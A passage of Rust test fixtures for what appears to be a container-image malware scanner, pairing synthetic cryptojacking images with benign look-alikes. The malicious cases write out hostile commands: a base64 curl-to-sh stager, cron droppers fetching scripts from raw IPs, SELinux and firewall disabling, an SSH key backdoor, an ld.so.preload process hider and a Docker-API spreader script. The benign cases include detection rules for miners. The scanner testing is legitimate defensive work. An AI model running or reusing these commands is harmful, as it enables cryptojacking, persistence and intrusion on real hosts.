        "wallet, pool and worker in Env, read by a start script that runs an XMRig stand-in",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .exec("usr/local/bin/worker", xmrig_elf(102))
                    .exec(
                        "usr/local/bin/start.sh",
                        "#!/bin/sh\nexec /usr/local/bin/worker -o \"$POOL\" -u \"$WALLET\" -p \"$WORKER\" -t \"$THREADS\" --no-color\n",
                    ),
            )
            .env(&format!("WALLET={w2}"))
            .env("POOL=xmr-us-east1.nanopool.org:14433")
            .env("WORKER=dp-01")
            .env("THREADS=4")
            .cmd(&["/usr/local/bin/start.sh"]),
    ));
    cases.push(Case::new(
        "fastcdn/edge-node",
        Block,
        "subaddress wallet and MoneroOcean pool as long flags on the entrypoint of a renamed miner",
        Image::new()
            .layer(alpine_base())
            .layer(Layer::new(Compression::Gzip).exec("usr/local/bin/edge-node", xmrig_elf(103)))
            .entrypoint(&[
                "/usr/local/bin/edge-node",
                "--url=gulf.moneroocean.stream:10128",
                &format!("--user={w3}"),
                "--pass=edge",
                "--coin=monero",
                "--cpu-max-threads-hint=75",
            ])
            .no_cmd(),
    ));
    cases.push(Case::new(
        "ci-tools/builder",
        Block,
        "history fetches the XMRig release tarball and renames the miner cron-helper, which Cmd runs",
        Image::new()
            .layer(alpine_base())
            .layer(Layer::new(Compression::Gzip).exec("usr/sbin/cron-helper", xmrig_elf(104)))
            .cmd(&["/usr/sbin/cron-helper", "--config=/etc/helper.json"])
            .history(&[
                "/bin/sh -c #(nop) ADD file:37a76ec18f9887751cd8473744917d08b7431fc4085097bb6a09d81b41775473 in / ",
                "RUN /bin/sh -c wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz && tar xzf xmrig-6.21.0-linux-static-x64.tar.gz && mv xmrig-6.21.0/xmrig /usr/sbin/cron-helper && chmod +x /usr/sbin/cron-helper && rm -rf xmrig-6.21.0*",
                "CMD [\"/usr/sbin/cron-helper\" \"--config=/etc/helper.json\"]",
            ]),
    ));

    // --- Miner binaries and configs in layers, run by unremarkable configs.
    cases.push(
        Case::new(
            "buildkit/jre-slim",
            Block,
            "entrypoint runs hidden /opt/.x/start.sh → ./xmrig -c config.json; pools url+user with a valid wallet (§8 #2)",
            Image::new()
                .layer(debian_base(DEBIAN_OS_RELEASE, 10))
                .layer(
                    Layer::new(Compression::Gzip)
                        .exec(
                            "opt/.x/start.sh",
                            "#!/bin/sh\ncd /opt/.x\nchmod +x xmrig\n./xmrig -c config.json >/dev/null 2>&1\n",
                        )
                        .exec("opt/.x/xmrig", xmrig_elf(105))
                        .file(
                            "opt/.x/config.json",
                            xmrig_config("xmr-eu1.nanopool.org:14433", &format!("{w4}.jre")),
                        ),
                )
                .entrypoint(&["/opt/.x/start.sh"])
                .no_cmd(),
        )
        .tag("e2e26c727b88"),
    );
    cases.push(Case::new(
        "mlstack/notebook",
        Block,
        "XMRig stand-in installed as /usr/local/bin/jupyter-lab and run by Cmd; no wallet anywhere",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(filler(
                "usr/local/lib/python3.11/site-packages/numpy/core/_multiarray_umath.so",
                60,
            ))
            .layer(Layer::new(Compression::Zstd).exec("usr/local/bin/jupyter-lab", xmrig_elf(106)))
            .cmd(&["jupyter-lab", "--ip=0.0.0.0", "--allow-root"])
            .env("PYTHON_VERSION=3.11.8"),
    ));
    cases.push(Case::new(
        "someone/xmrig",
        Block,
        "openly labelled XMRig image (PUA miner): binary, upstream default config, README",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .exec("xmrig/xmrig", xmrig_elf(107))
                    .file(
                        "xmrig/config.json",
                        xmrig_config("donate.v2.xmrig.com:3333", "YOUR_WALLET_ADDRESS"),
                    )
                    .file(
                        "xmrig/README.md",
                        "# XMRig in Docker\n\nRun `docker run someone/xmrig -o pool.supportxmr.com:443 -u YOUR_WALLET -k --tls`.\n",
                    ),
            )
            .entrypoint(&["/xmrig/xmrig"])
            .no_cmd()
            .label("org.opencontainers.image.description", "XMRig CPU miner"),
    ));
    cases.push(Case::new(
        "gpuworks/cuda-runner",
        Block,
        "cpuminer stand-in (cpuminer and stratum strings) as /usr/bin/cuda-runner",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip).exec(
                    "usr/bin/cuda-runner",
                    elf(2, 27, 108, 9000, &[
                        "User-Agent: cpuminer/2.5.1",
                        "Stratum notify: invalid Merkle branch",
                        "  -t, --threads=N       number of miner threads (default: number of processors)",
                        "thread %d: %lu hashes, %s khash/s",
                        "hash > target (false positive)",
                        "stratum+tcp://",
                        "{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cpuminer/2.5.1\"]}",
                        "{\"method\": \"mining.authorize\", \"params\": [\"%s\", \"%s\"], \"id\": 2}",
                        "{\"method\": \"mining.submit\", \"params\": [\"%s\", \"%s\", \"%s\", \"%s\", \"%s\"], \"id\":4}",
                    ]),
                ),
            )
            .cmd(&["cuda-runner", "-a", "cryptonight", "-o", "stratum+tcp://198.51.100.40:3333", "-u", "gpu", "-p", "x"]),
    ));
    cases.push(Case::new(
        "quickstart/devbox",
        Block,
        "MoneroOcean setup-script stand-in run by Cmd with a wallet argument",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(Layer::new(Compression::Gzip).exec(
                "root/setup_moneroocean_miner.sh",
                r#"#!/bin/bash

VERSION=2.11

# printing greetings

echo "MoneroOcean mining setup script v$VERSION."
echo "(please report issues to support@moneroocean.stream email with full output of this script with extra \"-x\" \"bash\" option)"
echo

if [ "$(id -u)" == "0" ]; then
  echo "WARNING: Generally it is not adviced to run this script under root"
fi

# command line arguments
WALLET=$1
EMAIL=$2 # this one is optional

# checking prerequisites

if [ -z $WALLET ]; then
  echo "Script usage:"
  echo "> setup_moneroocean_miner.sh <wallet address> [<your email address>]"
  echo "ERROR: Please specify your wallet address"
  exit 1
fi

echo "[*] Removing previous moneroocean miner (if any)"
if sudo -n true 2>/dev/null; then
  sudo systemctl stop moneroocean_miner.service
fi
killall -9 xmrig

echo "[*] Removing $HOME/moneroocean directory"
rm -rf $HOME/moneroocean

echo "[*] Downloading MoneroOcean advanced version of xmrig to /tmp/xmrig.tar.gz"
if ! curl -L --progress-bar "https://example.invalid/xmrig.tar.gz" -o /tmp/xmrig.tar.gz; then
  echo "ERROR: Can't download xmrig.tar.gz file to /tmp/xmrig.tar.gz"
  exit 1
fi

sed -i 's/"url": *"[^"]*",/"url": "gulf.moneroocean.stream:'$PORT'",/' $HOME/moneroocean/config.json
sed -i 's/"user": *"[^"]*",/"user": "'$WALLET'",/' $HOME/moneroocean/config.json
sed -i 's/"max-cpu-usage": *[^,]*,/"max-cpu-usage": 100,/' $HOME/moneroocean/config.json
"#,
            ))
            .cmd(&["/bin/bash", "/root/setup_moneroocean_miner.sh", &w5]),
    ));

    // --- Obfuscated starts.
    let stager = base64_std("curl -s http://203.0.113.7/x.sh | sh -s -- --donate-level=1");
    cases.push(Case::new(
        "coolapp/webhelper",
        Block,
        "Cmd decodes base64 into sh; the blob downloads from a raw IP and passes --donate-level= (§8 #4)",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .file("app/index.js", "const http = require('http');\nhttp.createServer((q, r) => r.end('ok')).listen(8080);\n")
                    .file("app/package.json", "{\"name\": \"webhelper\", \"version\": \"1.0.0\", \"main\": \"index.js\"}\n"),
            )
            .cmd(&["sh", "-c", &format!("echo {stager} | base64 -d | sh; node /app/index.js")]),
    ));
    let inner = base64_std(&format!(
        "import os;os.system('/tmp/.cache/python3 -o stratum+tcp://198.51.100.9:3333 -u {w6} --donate-level=1 -B')"
    ));
    cases.push(Case::new(
        "pyutils/fastjson",
        Block,
        "python -c exec(b64decode(...)): only base64 text carries the stratum URL, wallet and donate flag",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(Layer::new(Compression::Gzip).exec("tmp/.cache/python3", xmrig_elf(109)))
            .cmd(&["python3", "-c", &format!("exec(__import__('base64').b64decode('{inner}'))")]),
    ));

    // --- Persistence, evasion and rootkit kits.
    cases.push(Case::new(
        "devtools/nodejs-lts",
        Block,
        "header-zeroed UPX ELF /tmp/.cache/kswapd0, a cron.d job running it, chattr +i and pkill kdevtmpfsi (§8 #5)",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .exec(
                        "tmp/.cache/kswapd0",
                        elf(2, 0, 110, 70_000, &[
                            "PROT_EXEC|PROT_WRITE failed.",
                            "/proc/self/exe",
                        ]),
                    )
                    .file("etc/cron.d/sys", "* * * * * root /tmp/.cache/kswapd0 >/dev/null 2>&1\n")
                    .exec(
                        "usr/local/bin/docker-entrypoint.sh",
                        "#!/bin/sh\nset -e\nchattr +i /etc/cron.d/sys 2>/dev/null || true\npkill -9 -f kdevtmpfsi 2>/dev/null\npkill -9 -f xmrig 2>/dev/null\nnohup /tmp/.cache/kswapd0 >/dev/null 2>&1 &\nexec \"$@\"\n",
                    ),
            )
            .entrypoint(&["docker-entrypoint.sh"])
            .cmd(&["node"])
            .env("NODE_VERSION=20.11.1")
            .env("YARN_VERSION=1.22.19"),
    ));
    cases.push(Case::new(
        "web/redis-server",
        Block,
        "Kinsing: ld.so.preload → /etc/libsystem.so process hider, /tmp/kdevtmpfsi miner, nohup … & tail -f /dev/null (§8 #6)",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .file("etc/ld.so.preload", "/etc/libsystem.so\n")
                    .exec(
                        "etc/libsystem.so",
                        elf(3, 26, 111, 8000, &[
                            "process_to_filter",
                            "readdir",
                            "readdir64",
                            "dlsym",
                            "Error in dlsym: %s",
                            "/proc/self/fd/%d",
                            "/proc/%s/stat",
                            "kdevtmpfsi",
                            "kinsing",
                        ]),
                    )
                    .exec("tmp/kdevtmpfsi", xmrig_elf(112))
                    .exec(
                        "tmp/kinsing",
                        elf(2, 24, 113, 9000, &[
                            "Go build ID: \"x3Lq9R2mZ0kHf1bN8cTp/8yWv\"",
                            "main.minerRunningCheck",
                            "main.getMinerPid",
                            "main.masscan",
                            "main.downloadAndExecute",
                            "/tmp/kdevtmpfsi",
                        ]),
                    ),
            )
            .cmd(&["sh", "-c", "nohup /tmp/kdevtmpfsi >/dev/null 2>&1 & tail -f /dev/null"]),
    ));
    cases.push(Case::new(
        "perfkit/agent",
        Block,
        "libprocesshider .so (public source, filtering its own agent) preloaded via /etc/ld.so.preload (§6 critical)",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .exec(
                        "usr/local/lib/libprocesshider.so",
                        elf(
                            3,
                            27,
                            114,
                            7000,
                            &[
                                "processhider.c",
                                "process_to_filter",
                                "perfkit-agent",
                                "get_dir_name",
                                "get_process_name",
                                "original_readdir",
                                "original_readdir64",
                                "readdir",
                                "readdir64",
                                "dlsym",
                                "Error in dlsym: %s\n",
                                "/proc/self/fd/%d",
                                "/proc/%s/stat",
                                "%d (%[^)]s",
                            ],
                        ),
                    )
                    .file("etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
                    .exec(
                        "usr/local/bin/agent",
                        elf(
                            2,
                            26,
                            118,
                            9000,
                            &["perfkit agent v0.3.1", "Usage: agent [--interval N]"],
                        ),
                    ),
            )
            .cmd(&["/usr/local/bin/agent"]),
    ));
    cases.push(Case::new(
        "cronjobs/backup",
        Block,
        "Rocke-style dropper: cron.d + root crontab fetch pm.sh from a raw IP; pm.sh kills rivals, disables SELinux, rewrites crontab",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .file(
                        "etc/cron.d/backup",
                        "SHELL=/bin/sh\n*/10 * * * * root (curl -fsSL http://198.51.100.23/pm.sh || wget -q -O- http://198.51.100.23/pm.sh) | sh\n",
                    )
                    .file(
                        "var/spool/cron/crontabs/root",
                        "*/10 * * * * (curl -fsSL http://198.51.100.23/pm.sh || wget -q -O- http://198.51.100.23/pm.sh) | sh\n",
                    )
                    .exec(
                        "usr/local/bin/pm.sh",
                        r#"#!/bin/sh
export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/sysconfig/selinux 2>/dev/null
sync && echo 3 > /proc/sys/vm/drop_caches
crontab -r 2>/dev/null
echo "*/10 * * * * (curl -fsSL http://198.51.100.23/pm.sh || wget -q -O- http://198.51.100.23/pm.sh) | sh" | crontab -
ps aux | grep -v grep | grep -E 'xmrig|minerd|kdevtmpfsi|kinsing' | awk '{print $2}' | xargs kill -9
pkill -f kworkerds; pkill -f givemezxy
netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs kill -9
chattr -i /etc/cron.d/backup
"#,
                    ),
            )
            .cmd(&["cron", "-f"]),
    ));
    cases.push(Case::new(
        "metrics/sysguard",
        Block,
        "systemd unit (Restart=always) runs an XMRig stand-in and config from hidden /var/tmp/.sysguard; sysctl hugepages",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .file(
                        "etc/systemd/system/sysguard.service",
                        "[Unit]\nDescription=System guard\nAfter=network.target\n\n[Service]\nExecStart=/var/tmp/.sysguard/sysguard --config /var/tmp/.sysguard/config.json\nRestart=always\nNice=10\n\n[Install]\nWantedBy=multi-user.target\n",
                    )
                    .exec("var/tmp/.sysguard/sysguard", xmrig_elf(115))
                    .file(
                        "var/tmp/.sysguard/config.json",
                        xmrig_config("pool.hashvault.pro:443", &monero_address(STANDARD, "corpus-7")),
                    )
                    .file("etc/sysctl.d/60-sysguard.conf", "vm.nr_hugepages=1280\nkernel.nmi_watchdog=0\n"),
            )
            .cmd(&["/lib/systemd/systemd"]),
    ));
    cases.push(Case::new(
        "ops/ssh-bastion",
        Block,
        "TeamTNT-style: attacker key baked into root's authorized_keys and locked with chattr; SELinux, firewall and history off",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .file("root/.ssh/authorized_keys", format!("{attacker_key}\n"))
                    .exec(
                        "usr/local/bin/setup.sh",
                        format!(
                            "#!/bin/bash\nchattr -ia /root/.ssh/authorized_keys 2>/dev/null\necho \"{attacker_key}\" >> /root/.ssh/authorized_keys\nchattr +ia /root/.ssh/authorized_keys\nsed -i 's/#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config\nsetenforce 0 2>/dev/null; echo SELINUX=disabled > /etc/selinux/config\nufw disable; iptables -F\nhistory -c; unset HISTFILE\nexec /usr/sbin/sshd -D\n"
                        ),
                    ),
            )
            .entrypoint(&["/usr/local/bin/setup.sh"])
            .no_cmd(),
    ));
    cases.push(Case::new(
        "scanbox/alpine-tools",
        Block,
        "spreader kit: masscan and docker CLI stand-ins, a script starting a miner image on every open Docker API found (§8 #3)",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .exec(
                        "usr/bin/masscan",
                        elf(2, 26, 116, 8000, &[
                            "Masscan version 1.3.2 ( https://github.com/robertdavidgraham/masscan )",
                            "--rate <packets-per-second>",
                            "Discovered open port %u/%s on %s",
                        ]),
                    )
                    .exec(
                        "usr/bin/docker",
                        elf(2, 28, 117, 9000, &[
                            "Usage:  docker [OPTIONS] COMMAND",
                            "-H, --host list            Daemon socket(s) to connect to",
                        ]),
                    )
                    .exec(
                        "usr/local/bin/spread.sh",
                        "#!/bin/sh\n# find open Docker APIs and start the payload on them\nmasscan -p2375,2376 --rate 10000 \"$1\" -oL /tmp/hosts.txt\nawk '/open/ {print $4}' /tmp/hosts.txt | while read ip; do\n  docker -H tcp://$ip:2375 run -d --restart always --privileged --net host -v /:/host someuser/alpine2\ndone\n",
                    ),
            )
            .entrypoint(&["/usr/local/bin/spread.sh"])
            .cmd(&["0.0.0.0/0"]),
    ));
    cases
}

/// Benign look-alikes: each must be served.
pub fn benign() -> Vec<Case> {
    use Expect::Allow;
    let donation = monero_address(STANDARD, "benign-monero-fund");
    let example = monero_address(STANDARD, "benign-readme-example");
    let mut cases = Vec::new();

    cases.push(Case::new(
        "sethforprivacy/simple-monerod",
        Allow,
        "Monero full node: monerod and monero-wallet-rpc with a donation address built in, README with an address",
        Image::new()
            .layer(debian_base(UBUNTU_OS_RELEASE, 20))
            .layer(
                Layer::new(Compression::Gzip)
                    .exec(
                        "usr/local/bin/monerod",
                        elf(2, 30, 201, 30_000, &[
                            "Monero 'Fluorine Fermi' (v0.18.3.3-release)",
                            "--rpc-bind-ip",
                            "--p2p-bind-port",
                            "RandomX",
                            "randomx",
                            "Mining started. Thanks for supporting the network!",
                            "start_mining <addr> [<threads>|auto] [do_background_mining] [ignore_battery]",
                        ]),
                    )
                    .exec(
                        "usr/local/bin/monero-wallet-rpc",
                        elf(2, 30, 202, 30_000, &[
                            "Monero 'Fluorine Fermi' (v0.18.3.3-release)",
                            "--wallet-file",
                            "Donating %s %s to The Monero Project (donate.getmonero.org or %s).",
                            &donation,
                        ]),
                    )
                    .file(
                        "usr/share/doc/simple-monerod/README.md",
                        format!("# simple-monerod\n\nA simple and straightforward Dockerized monerod built from source.\n\n```\ndocker run -d --name monerod -p 18080:18080 -p 18089:18089 sethforprivacy/simple-monerod --rpc-restricted-bind-ip=0.0.0.0 --rpc-restricted-bind-port=18089\n```\n\nDonations: {example}\n"),
                    ),
            )
            .entrypoint(&["monerod"])
            .cmd(&["--rpc-restricted-bind-ip=0.0.0.0", "--rpc-restricted-bind-port=18089", "--no-igd", "--no-zmq", "--enable-dns-blocklist"])
            .label("org.opencontainers.image.title", "simple-monerod")
            .label("org.opencontainers.image.description", "A simple Dockerized monerod"),
    ));
    cases.push(Case::new(
        "secops/rulepack",
        Allow,
        "security tooling: YARA (signature-base, Yara-Rules), Sigma and Falco rules full of xmrig, stratum, pools, base64 fragments",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .file(
                        "opt/yara/malware/MALW_XMRIG_Miner.yar",
                        "rule XMRIG_Miner\n{\n    meta:\n        ref = \"https://github.com/xmrig/xmrig/releases\"\n    strings:\n        $a1 = \"stratum+tcp\"\n    condition:\n        $a1\n}\n",
                    )
                    .file(
                        "opt/signature-base/yara/pua_xmrig_monero_miner.yar",
                        "rule XMRIG_Monero_Miner : HIGHVOL {\n   strings:\n      $s1 = \"'h' hashrate, 'p' pause, 'r' resume\" fullword ascii\n      $s2 = \"--cpu-affinity\" ascii\n      $s3 = \"set process affinity to CPU core(s), mask 0x3 for cores 0 and 1\" ascii\n      $s4 = \"password for mining server\" fullword ascii\n      $s5 = \"XMRig/%s libuv/%s%s\" fullword ascii\n   condition:\n      ( uint16(0) == 0x5a4d or uint16(0) == 0x457f ) and filesize < 10MB and 2 of them\n}\nrule PUA_LNX_XMRIG_CryptoMiner {\n   strings:\n      $s1 = \"number of hash blocks to process at a time (don't set or 0 enables automatic selection o\" fullword ascii\n      $s2 = \"'h' hashrate, 'p' pause, 'r' resume, 'q' shutdown\" fullword ascii\n      $s3 = \"* THREADS:      %d, %s, aes=%d, hf=%zu, %sdonate=%d%%\" fullword ascii\n      $s4 = \".nicehash.com\" ascii\n   condition:\n      uint16(0) == 0x457f and filesize < 8000KB and ( $s1 or 2 of them )\n}\n",
                    )
                    .file(
                        "opt/sigma/rules/linux/process_creation/proc_creation_lnx_crypto_mining.yml",
                        "title: Linux Crypto Mining Indicators\nid: 9069ea3c-b213-4c52-be13-86506a227ab1\nstatus: test\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    selection:\n        CommandLine|contains:\n            - ' --cpu-priority='\n            - '--donate-level=0'\n            - ' -o pool.'\n            - ' --nicehash'\n            - ' --algo=rx/0 '\n            - 'stratum+tcp://'\n            - 'stratum+udp://'\n            - 'LS1kb25hdGUtbGV2ZWw9'\n            - '0tZG9uYXRlLWxldmVsP'\n            - 'tLWRvbmF0ZS1sZXZlbD'\n            - 'c3RyYXR1bSt0Y3A6Ly'\n            - 'N0cmF0dW0rdGNwOi8v'\n            - 'zdHJhdHVtK3RjcDovL'\n            - 'sh -c /sbin/modprobe msr allow_writes=on'\n    condition: selection\nlevel: high\n",
                    )
                    .file(
                        "etc/falco/falco_rules.yaml",
                        "- list: miner_ports\n  items: [25, 3333, 3334, 3335, 3336, 3357, 4444, 5555, 5556, 5588, 5730, 6099, 6666, 7777, 7778, 8000, 8001, 8008, 8080, 8118, 8333, 8888, 8899, 9332, 9999, 14433, 14444, 45560, 45700]\n- list: miner_domains\n  items: [\"asia1.ethpool.org\", \"pool.minexmr.com\", \"xmr.crypto-pool.fr\", \"mine.moneropool.com\", \"pool.supportxmr.com\", \"xmr.pool.minergate.com\"]\n- macro: minerpool_other\n  condition: (fd.sport in (miner_ports) and fd.sip.name in (miner_domains))\n- rule: Detect crypto miners using the Stratum protocol\n  desc: Miners typically specify the mining pool to connect to with a URI that begins with 'stratum+tcp'\n  condition: spawned_process and (proc.cmdline contains \"stratum+tcp\" or proc.cmdline contains \"stratum2+tcp\" or proc.cmdline contains \"stratum+ssl\" or proc.cmdline contains \"stratum2+ssl\")\n  output: Possible miner running (command=%proc.cmdline)\n  priority: CRITICAL\n",
                    )
                    .exec(
                        "usr/local/bin/scan.sh",
                        "#!/bin/sh\n# Scan a directory tree with the bundled rules\nexec yara -r /opt/yara/malware/ /opt/signature-base/yara/ \"${1:-/scan}\"\n",
                    ),
            )
            .cmd(&["/usr/local/bin/scan.sh"]),
    ));
    cases.push(Case::new(
        "clamav/clamav",
        Allow,
        "ClamAV with signature databases holding coin-miner signatures",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .file("etc/clamav/freshclam.conf", "DatabaseDirectory /var/lib/clamav\nUpdateLogFile /var/log/clamav/freshclam.log\nDatabaseMirror database.clamav.net\n")
                    .file("etc/clamav/clamd.conf", "LocalSocket /run/clamav/clamd.sock\nDetectPUA yes\nExcludePUA NetTool\nExcludePUA PWTool\n")
                    .file(
                        "var/lib/clamav/daily.ldb",
                        "Multios.Coinminer.Miner-6781728-2;Engine:81-255,Target:0;0&1;7374726174756d2b7463703a2f2f;646f6e6174652e76322e786d7269672e636f6d\nUnix.Malware.Agent-6634015-0;Engine:51-255,Target:6;0&1;786d726967;2d2d646f6e6174652d6c6576656c\n",
                    )
                    .file("var/lib/clamav/main.cvd", {
                        let mut cvd = b"ClamAV-VDB:16 Sep 2021 10-32 -0400:62:6647427:90:45f8a1c5e1b8cf1b0b3fa8e4cd9bfbe3:placeholder-signature:sigmgr:1631802727".to_vec();
                        cvd.resize(512, b' ');
                        cvd.extend(noise(203, 60_000));
                        cvd
                    }),
            )
            .entrypoint(&["/init"])
            .no_cmd(),
    ));
    cases.push(Case::new(
        "acme/minerwatch",
        Allow,
        "a miner-detection app: README examples with xmrig and stratum URLs, unit tests asserting detection, an example config in docs",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .file(
                        "app/README.md",
                        format!("# minerwatch\n\nFlags processes that look like coin miners, e.g. `xmrig -o stratum+tcp://pool.example.com:3333 -u {example} --donate-level=1`.\n\nKnown pools: pool.supportxmr.com, xmr-eu1.nanopool.org, gulf.moneroocean.stream.\n"),
                    )
                    .file(
                        "app/minerwatch/detect.py",
                        "import re\n\nMINER_NAMES = {\"xmrig\", \"xmr-stak\", \"cpuminer\", \"kdevtmpfsi\", \"kinsing\"}\nSTRATUM = re.compile(r\"stratum\\+(tcp|udp|ssl|tls)://\")\n\n\ndef detect(cmdline):\n    words = cmdline.split()\n    return bool(STRATUM.search(cmdline)) or any(w.rsplit('/', 1)[-1] in MINER_NAMES for w in words)\n",
                    )
                    .file(
                        "app/tests/test_detect.py",
                        "from minerwatch.detect import detect\n\n\ndef test_flags_stratum_url():\n    assert detect(\"xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level=1 --cpu-priority=5\")\n\n\ndef test_flags_kinsing():\n    assert detect(\"/tmp/kdevtmpfsi\")\n\n\ndef test_ignores_nginx():\n    assert not detect(\"nginx -g 'daemon off;'\")\n",
                    )
                    .file(
                        "usr/share/doc/minerwatch/examples/xmrig-config.json",
                        xmrig_config("pool.supportxmr.com:3333", &example),
                    ),
            )
            .cmd(&["python3", "-m", "minerwatch", "--watch", "/proc"]),
    ));
    cases.push(Case::new(
        "library/nginx",
        Allow,
        "official nginx: Debian cron.daily/apt-compat and dpkg, nginx.org systemd units, logrotate kill -USR1",
        nginx(),
    ));
    cases.push(Case::new(
        "myorg/devcontainer",
        Allow,
        "dev image whose history pipes curl into sh (NodeSource, uv installer)",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .exec("usr/bin/node", elf(2, 30, 204, 20_000, &["node v20.11.1", "--max-old-space-size"]))
                    .exec("root/.local/bin/uv", elf(2, 30, 205, 20_000, &["uv 0.1.31", "Usage: uv [OPTIONS] <COMMAND>"])),
            )
            .cmd(&["bash"])
            .history(&[
                "/bin/sh -c #(nop) ADD file:b86ae1c7ca3586d8feedcd9ff1b2b1e8ab872caf6587618f1da689045a5d7ae4 in / ",
                "RUN /bin/sh -c apt-get update && apt-get install -y curl ca-certificates && curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs && curl -LsSf https://astral.sh/uv/install.sh | sh && rm -rf /var/lib/apt/lists/* # buildkit",
                "CMD [\"bash\"]",
            ]),
    ));
    cases.push(Case::new(
        "cnrancher/autok3s",
        Allow,
        "legitimately UPX-packed Go CLI: UPX! magic intact, $Info string, stub, no miner strings (ClamAV false positive case)",
        Image::new()
            .layer(alpine_base())
            .layer(Layer::new(Compression::Gzip).exec("usr/local/bin/autok3s", {
                // UPX keeps its `UPX!` header just after the program headers, then the packed data,
                // the stub with its strings, and a trailer.
                let mut b = elf(2, 0, 206, 120, &[]);
                b.extend_from_slice(b"UPX!\x0d\x0a\x0e\x16");
                b.extend(noise(207, 80_000));
                b.extend_from_slice(b"PROT_EXEC|PROT_WRITE failed.\n\0/proc/self/exe\0");
                b.extend_from_slice(b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n\0");
                b.extend_from_slice(b"$Id: UPX 4.02 Copyright (C) 1996-2023 the UPX Team. All Rights Reserved. $\n\0");
                b.extend_from_slice(b"UPX!");
                b
            }))
            .entrypoint(&["autok3s"])
            .cmd(&["--help"]),
    ));
    cases.push(Case::new(
        "bitnami/redis",
        Allow,
        "verified publisher, the real spelling",
        bitnami_redis(),
    ));
    cases.push(Case::new(
        "nginxinc/nginx-unprivileged",
        Allow,
        "vendor namespace with the official name plus a suffix",
        nginx().env("NGINX_PORT=8080"),
    ));
    cases.push(Case::new(
        "jenkins/jenkins",
        Allow,
        "official-looking name under its own namespace (jenkins left `library`)",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .exec("usr/bin/tini", elf(2, 25, 208, 6000, &["tini version 0.19.0", "Usage: tini [OPTIONS] PROGRAM -- [ARGS]"]))
                    .file("usr/share/jenkins/jenkins.war", {
                        let mut war = b"PK\x03\x04".to_vec();
                        war.extend(noise(209, 80_000));
                        war
                    })
                    .exec(
                        "usr/local/bin/jenkins.sh",
                        "#! /bin/bash -e\n\n: \"${JENKINS_WAR:=\"/usr/share/jenkins/jenkins.war\"}\"\n: \"${JENKINS_HOME:=\"/var/jenkins_home\"}\"\ntouch \"${COPY_REFERENCE_FILE_LOG}\" || { echo \"Can not write to ${COPY_REFERENCE_FILE_LOG}. Wrong volume permissions?\"; exit 1; }\necho \"--- Copying files at $(date)\" >> \"$COPY_REFERENCE_FILE_LOG\"\nfind \"${REF}\" \\( -type f -o -type l \\) -exec bash -c '. /usr/local/bin/jenkins-support; for arg; do copy_reference_file \"$arg\"; done' _ {} +\n\nexec java -Duser.home=\"$JENKINS_HOME\" ${JAVA_OPTS} -jar ${JENKINS_WAR} ${JENKINS_OPTS} \"$@\"\n",
                    ),
            )
            .entrypoint(&["/usr/bin/tini", "--", "/usr/local/bin/jenkins.sh"])
            .no_cmd()
            .env("JENKINS_HOME=/var/jenkins_home")
            .env("JENKINS_SLAVE_AGENT_PORT=50000")
            .env("REF=/usr/share/jenkins/ref")
            .env("JENKINS_VERSION=2.440.2")
            .env("JENKINS_UC=https://updates.jenkins.io")
            .env("COPY_REFERENCE_FILE_LOG=/var/jenkins_home/copy_reference_file.log")
            .history(&[
                "/bin/sh -c #(nop) ADD file:b86ae1c7ca3586d8feedcd9ff1b2b1e8ab872caf6587618f1da689045a5d7ae4 in / ",
                "RUN |11 /bin/sh -c curl -fsSL ${JENKINS_URL} -o /usr/share/jenkins/jenkins.war && echo \"${JENKINS_SHA}  /usr/share/jenkins/jenkins.war\" >/tmp/jenkins_sha && sha256sum -c --strict /tmp/jenkins_sha && rm -f /tmp/jenkins_sha # buildkit",
                "ENTRYPOINT [\"/usr/bin/tini\" \"--\" \"/usr/local/bin/jenkins.sh\"]",
            ]),
    ));
    cases.push(Case::new(
        "library/nats",
        Allow,
        "short official name (4 letters), from-scratch Go server",
        Image::new()
            .layer(
                Layer::new(Compression::Gzip)
                    .exec(
                        "nats-server",
                        elf(2, 24, 210, 30_000, &[
